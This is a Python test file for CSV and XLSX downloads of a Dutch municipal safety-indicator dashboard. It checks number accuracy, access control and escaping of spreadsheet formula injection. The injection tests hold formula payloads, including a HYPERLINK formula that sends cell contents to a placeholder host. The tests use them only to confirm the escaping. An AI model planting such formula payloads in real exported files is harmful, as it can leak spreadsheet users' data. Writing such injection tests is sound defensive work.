"""CSV and XLSX downloads of the indicator page: the engine's unrounded numbers, made safe."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from django.test import Client

from openveiligheid.areas.models import Area
from openveiligheid.core.csvfiles import safe_text
from openveiligheid.indicators.models import Indicator
from openveiligheid.indicators.services import indicator_series, level_values, plan_division
from openveiligheid.policy.models import Plan

pytestmark = pytest.mark.django_db

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER = [
    "niveau",
    "gebiedscode",
    "gebied",
    "jaar",
    "waarde",
    "eenheid",
    "doel",
    "oordeel",
    "vergelijkingsgebied",
    "vergelijkingswaarde",
    "opmerkingen",
]


def download(client: Client, url: str, mime: str, filename: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"] == mime
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    return response.content


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for Excel
    text = body.decode("utf-8")[1:]
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def dutch(field: str) -> float | None:
    """A CSV number: decimal comma, no thousands separator."""
    if field == "":
        return None
    assert re.fullmatch(r"-?\d+(,\d+)?(e[+-]\d+)?", field), field
    return float(field.replace(",", "."))


def page_values(client: Client, url: str) -> dict[str, float | None]:
    """code -> data-value of the area table on the indicator page."""
    content = client.get(url).content.decode()
    found = re.findall(
        r'<tr class="utrecht-table__row" data-area="([^"]+)">.*?data-value="([^"]*)"', content, re.S
    )
    return {code: (float(v.replace(",", ".")) if v else None) for code, v in found}


def first_area_year(plan: Plan, indicator: Indicator) -> int | None:
    with_value = [int(r.period) for r in indicator_series(plan, indicator) if r.value is not None]
    return with_value[-1] if with_value else None


# --- access ----------------------------------------------------------------------------------

URL = "/indicator/fietsdiefstal-aangiften/download.csv"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_anonymous_is_sent_to_the_login_page(client: Client, fmt: str) -> None:
    response = client.get(f"/indicator/fietsdiefstal-aangiften/download.{fmt}")
    assert response.status_code == 302
    assert response.url.startswith("/inloggen/?next=")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_without_the_dashboard_role_is_403(client: Client, nobody, fmt: str) -> None:
    client.force_login(nobody)
    assert client.get(f"/indicator/fietsdiefstal-aangiften/download.{fmt}").status_code == 403


def test_unknown_format_or_indicator_is_404(adviseur_client: Client, plan: Plan) -> None:
    for url in [
        "/indicator/fietsdiefstal-aangiften/download.pdf",
        "/indicator/fietsdiefstal-aangiften/download.CSV",
        "/indicator/bestaat-niet/download.csv",
    ]:
        assert adviseur_client.get(url).status_code == 404, url


# --- CSV -------------------------------------------------------------------------------------


def test_csv_of_every_indicator_agrees_with_the_engine(adviseur_client: Client, plan: Plan) -> None:
    division = plan_division(plan)
    for indicator in plan.indicators.all():
        year = first_area_year(plan, indicator)
        name = f"{indicator.key}-wijk-{year or 'alle'}.csv"
        rows = csv_rows(
            download(adviseur_client, f"/indicator/{indicator.key}/download.csv", CSV_TYPE, name)
        )
        assert rows[0] == HEADER
        assert all(len(row) == len(HEADER) for row in rows), indicator.key
        results = indicator_series(plan, indicator)
        gemeente = [row for row in rows[1:] if row[0] == "gemeente"]
        assert len(gemeente) == len(results), indicator.key
        for row, result in zip(gemeente, results, strict=True):
            assert row[1] == result.area == plan.gemeente_code
            assert row[2] == "Groningen"
            assert int(row[3]) == int(result.period)
            assert dutch(row[4]) == result.value, (indicator.key, row)  # exact: unrounded
            assert row[5] == indicator.unit
            assert row[7] == result.verdict
            assert row[8] == (result.comparison_area or "")
            assert dutch(row[9]) == result.comparison_value
            assert row[10] == "; ".join(result.notes)
        areas = [row for row in rows[1:] if row[0] != "gemeente"]
        if year is None:
            assert areas == [], indicator.key
            continue
        found = level_values(indicator.to_definition(), plan.gemeente_code, "wijk", year, division)
        expected = {
            item.area.code: (item.area.name, item.value.value if item.value else None)
            for item in found.rows
        }
        assert {row[1]: (row[2], dutch(row[4])) for row in areas} == expected, indicator.key
        assert all(row[0] == "wijk" and row[3] == str(year) for row in areas)


def test_csv_numbers_have_a_decimal_comma_and_are_unrounded(
    adviseur_client: Client, plan: Plan
) -> None:
    # the demo has no population of the 2024 gemeente before 2024, so no rate of its own;
    # the comparison with the Netherlands is there, and the page rounds it to one decimal
    indicator = Indicator.objects.get(plan=plan, key="misdrijven-per-1000")
    assert indicator.decimals == 1
    rows = csv_rows(
        download(
            adviseur_client,
            "/indicator/misdrijven-per-1000/download.csv",
            CSV_TYPE,
            "misdrijven-per-1000-wijk-alle.csv",
        )
    )
    results = indicator_series(plan, indicator)
    gemeente = [row for row in rows[1:] if row[0] == "gemeente"]
    comparison = [row[9] for row in gemeente]
    assert comparison == [
        repr(r.comparison_value).replace(".", ",") if r.comparison_value is not None else ""
        for r in results
    ]
    filled = [value for value in comparison if value]
    assert filled and all("," in value and "." not in value for value in filled)
    assert any(len(value.split(",")[1]) > 1 for value in filled)  # not rounded to 1 decimal
    assert {row[8] for row in gemeente} == {"NL01"}
    reported = csv_rows(
        adviseur_client.get("/indicator/fietsdiefstal-per-1000/download.csv").content
    )
    values = [row[4] for row in reported[1:] if row[0] == "gemeente" and row[4]]
    assert values and all(re.fullmatch(r"\d+,\d+", value) for value in values)


def test_csv_area_rows_equal_the_page(adviseur_client: Client, plan: Plan) -> None:
    page = "/indicator/fietsdiefstal-aangiften/?jaar=2015&niveau=buurt"
    content = adviseur_client.get(page).content.decode()
    link = re.search(r'id="download-csv" href="([^"]+)"', content).group(1).replace("&amp;", "&")
    assert link == "/indicator/fietsdiefstal-aangiften/download.csv?jaar=2015&niveau=buurt"
    rows = csv_rows(
        download(adviseur_client, link, CSV_TYPE, "fietsdiefstal-aangiften-buurt-2015.csv")
    )
    areas = {row[1]: dutch(row[4]) for row in rows[1:] if row[0] == "buurt"}
    shown = page_values(adviseur_client, page)
    assert len(areas) == len(shown) == 108
    assert areas == shown
    assert all(row[3] == "2015" for row in rows[1:] if row[0] == "buurt")
    # every year of the gemeente's series stays in the file, whichever year the table shows
    assert [row[3] for row in rows[1:] if row[0] == "gemeente"] == ["2013", "2014", "2015", "2016"]
    definition = Indicator.objects.get(plan=plan, key="fietsdiefstal-aangiften").to_definition()
    found = level_values(definition, plan.gemeente_code, "buurt", 2015, plan_division(plan))
    engine = {item.area.code: item.value.value if item.value else None for item in found.rows}
    assert areas == engine


# --- formula injection -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+31 50 123", "'+31 50 123"),
        ("-Zuid", "'-Zuid"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Centrum", "Centrum"),
        ("Oud-Zuid", "Oud-Zuid"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_text(text: str, safe: str) -> None:
    assert safe_text(text) == safe


def test_a_formula_like_area_name_is_neutralised(adviseur_client: Client, plan: Plan) -> None:
    nasty = '=HYPERLINK("http://example.invalid/?x="&A1;"klik")'
    Area.objects.create(
        code="WK001499", division=2017, level="wijk", name=nasty, gemeente_code=plan.gemeente_code
    )
    Area.objects.create(
        code="WK001498",
        division=2017,
        level="wijk",
        name="-Zuidrand",
        gemeente_code=plan.gemeente_code,
    )
    rows = csv_rows(
        download(adviseur_client, URL, CSV_TYPE, "fietsdiefstal-aangiften-wijk-2016.csv")
    )
    names = {row[1]: row[2] for row in rows[1:]}
    assert names["WK001499"] == "'" + nasty
    assert names["WK001498"] == "'-Zuidrand"
    assert names["WK001400"] == "Centrum"
    body = adviseur_client.get(URL.replace(".csv", ".xlsx")).content
    sheet = load_workbook(io.BytesIO(body))["Cijfers"]
    cells = {row[1].value: row[2] for row in sheet.iter_rows(min_row=2)}
    assert cells["WK001499"].value == "'" + nasty
    assert cells["WK001499"].data_type == "s"  # text, not a formula
    assert cells["WK001498"].value == "'-Zuidrand"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


# --- XLSX ------------------------------------------------------------------------------------


def test_xlsx_has_the_same_numbers_as_the_csv(adviseur_client: Client, plan: Plan) -> None:
    cases = [
        ("fietsdiefstal-aangiften", 0),
        ("fietsdiefstal-per-1000", 1),
        ("misdrijven-per-1000", 1),
    ]
    for key, decimals in cases:
        indicator = Indicator.objects.get(plan=plan, key=key)
        assert indicator.decimals == decimals
        year = first_area_year(plan, indicator)
        base = f"/indicator/{key}/download"
        name = f"{key}-wijk-{year or 'alle'}"
        rows = csv_rows(download(adviseur_client, base + ".csv", CSV_TYPE, f"{name}.csv"))
        body = download(adviseur_client, base + ".xlsx", XLSX_TYPE, f"{name}.xlsx")
        book = load_workbook(io.BytesIO(body))
        assert book.sheetnames == ["Cijfers"]
        sheet = book["Cijfers"]
        values = [[cell.value for cell in row] for row in sheet.iter_rows()]
        assert values[0] == HEADER
        assert len(values) == len(rows)
        number_format = "#,##0" + (".0" if decimals else "")
        checked = 0
        for row, csv_row in zip(sheet.iter_rows(min_row=2), rows[1:], strict=True):
            assert [c.value for c in row[:3]] == csv_row[:3]
            assert row[3].value == int(csv_row[3])
            for column in (4, 9):
                expected = dutch(csv_row[column])
                cell = row[column]
                if expected is None:
                    assert cell.value in (None, ""), (key, csv_row)
                    continue
                assert isinstance(cell.value, int | float) and not isinstance(cell.value, bool)
                # openpyxl stores 16 significant digits (Excel keeps 15): equal up to that
                assert cell.value == pytest.approx(expected, rel=1e-15), (key, csv_row)
                assert cell.number_format == number_format
                checked += 1
        assert checked >= len(rows) // 2, key
        assert sheet.freeze_panes == "A2"
